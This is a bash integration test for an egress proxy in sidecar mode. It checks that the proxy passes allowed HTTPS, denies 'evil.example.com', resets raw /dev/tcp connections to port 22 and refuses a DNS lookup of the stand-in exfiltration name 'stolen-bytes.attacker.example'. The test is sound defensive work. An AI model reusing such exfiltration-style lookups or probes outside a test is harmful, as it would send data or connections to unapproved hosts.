#!/usr/bin/env bash
# The sidecar shape: the proxy runs on the node itself, as uid 65532, and
# `egress-proxy nft --shape sidecar` redirects the node's own outbound TCP to it. Two network
# namespaces of this script's own: the node (client and proxy) and an origin. Needs root.
# Usage: sidecar.sh BIN
set -euo pipefail
BIN="$1"
PREFIX=es
NAMESPACES="node origin"
BIG_BYTES=1048576
source "$(dirname "$0")/lib.sh"

ip link add n0 netns es-node type veth peer name o0 netns es-origin
ns node ip addr add 10.78.1.1/24 dev n0; ns node ip link set n0 up; ns node ip route add default via 10.78.1.2
ns origin ip addr add 10.78.1.2/24 dev o0; ns origin ip addr add 10.78.1.3/24 dev o0; ns origin ip link set o0 up
ns origin ip addr add 10.78.1.53/24 dev o0

origin https 10.78.1.2 443 "$work/cert.pem" "$work/key.pem" A "$work/big"
origin https 10.78.1.3 443 "$work/cert.pem" "$work/key.pem" B "$work/big"
origin tcp 10.78.1.3 22 "$work/reached"
origin udp 10.78.1.2 443 "$work/reached"
# The upstream resolver the proxy asks: ours, answering 10.78.1.2 and writing down every name asked.
origin dns 10.78.1.53 10.78.1.2 "$work/dns-asked"

touch "$work/audit.jsonl"; chown 65532:65532 "$work/audit.jsonl"
cat > "$work/policy.toml" <<TOML
[listen]
tls = "127.0.0.1:3129"
plain = "127.0.0.1:3130"
catch_all = "127.0.0.1:3131"
dns = "127.0.0.1:3053"
[resolve]
upstream = ["10.78.1.53"]
[audit]
path = "$work/audit.jsonl"
[safety]
allow_internal = ["10.78.0.0/16"]
[nftables]
proxy_uid = 65532
[resolve.static]
"ml.azure.com" = ["10.78.1.2"]
"evil.example.com" = ["10.78.1.3"]
[[rule]]
name = "azureml"
action = "allow"
hosts = ["ml.azure.com"]
ports = [443]
[[rule]]
name = "dns-test"
action = "allow"
hosts = ["answer.dnstest.example"]
ports = [443]
TOML
"$BIN" nft --config "$work/policy.toml" --shape sidecar > "$work/sidecar.nft"
ns node nft -f "$work/sidecar.nft"
ip netns exec es-node setpriv --reuid 65532 --regid 65532 --clear-groups "$BIN" run --config "$work/policy.toml" >/dev/null 2>>"$work/proxy.log" &
pids+=($!)
ready 10.78.1.2
ready 10.78.1.3
for _ in $(seq 100); do
  ns node bash -c 'exec 3<>/dev/tcp/127.0.0.1/3129' 2>/dev/null && break
  sleep 0.05
done
curl_to() { ns node curl -sS --max-time 10 --cacert "$work/cert.pem" --resolve "$1:443:$2" "https://$1$3"; }

sum="$(curl_to ml.azure.com 10.78.1.2 /big | sha256sum | cut -d' ' -f1)" || sum=failed
check "the node's own HTTPS to an allowed name is proxied with its bytes intact" [ "$sum" = "$(sha256sum < "$work/big" | cut -d' ' -f1)" ]
check "and audited on the tls listener" audit_has '"listener":"tls"'
check "a refused name is refused" bash -c "! ip netns exec es-node curl -sS --max-time 5 --cacert '$work/cert.pem' --resolve evil.example.com:443:10.78.1.3 https://evil.example.com/ >/dev/null 2>&1"
check "and audited" audit_has '"host":"evil.example.com","port":443,"dst_addr":null,"decision":"deny"'
check "an allowed SNI to another address reaches the name's own server" [ "$(curl_to ml.azure.com 10.78.1.3 /)" = A ]
check "TCP to port 22 is reset" bash -c "! ip netns exec es-node timeout 3 bash -c 'exec 3<>/dev/tcp/10.78.1.3/22; cat <&3' >/dev/null 2>&1"
check "and audited with its original destination" audit_has '"reason":"catch_all","original_dst":"10.78.1.3:22"'
ns node bash -c 'echo quic > /dev/udp/10.78.1.2/443' || true
sleep 0.5
check "neither port 22 nor UDP 443 reached the origin" [ ! -s "$work/reached" ]
# DNS: the node's own questions are redirected to the DNS filter; only the proxy's user asks upstream.
dig_a() { ns node dig +short +time=3 +tries=1 "@$1" "$2" A; }
check "DNS: an allowed name is answered, from our upstream" [ "$(dig_a 10.78.1.53 answer.dnstest.example)" = 10.78.1.2 ]
check "DNS: a refused name gets REFUSED" bash -c "ip netns exec es-node dig +time=3 +tries=1 @10.78.1.53 stolen-bytes.attacker.example A | grep -q 'status: REFUSED'"
check "DNS: and the upstream never heard of it" bash -c "! grep -q attacker '$work/dns-asked'"

[ "$failed" -eq 0 ] || tail -20 "$work/proxy.log"
echo "netns sidecar: $passed passed, $failed failed"
[ "$failed" -eq 0 ]
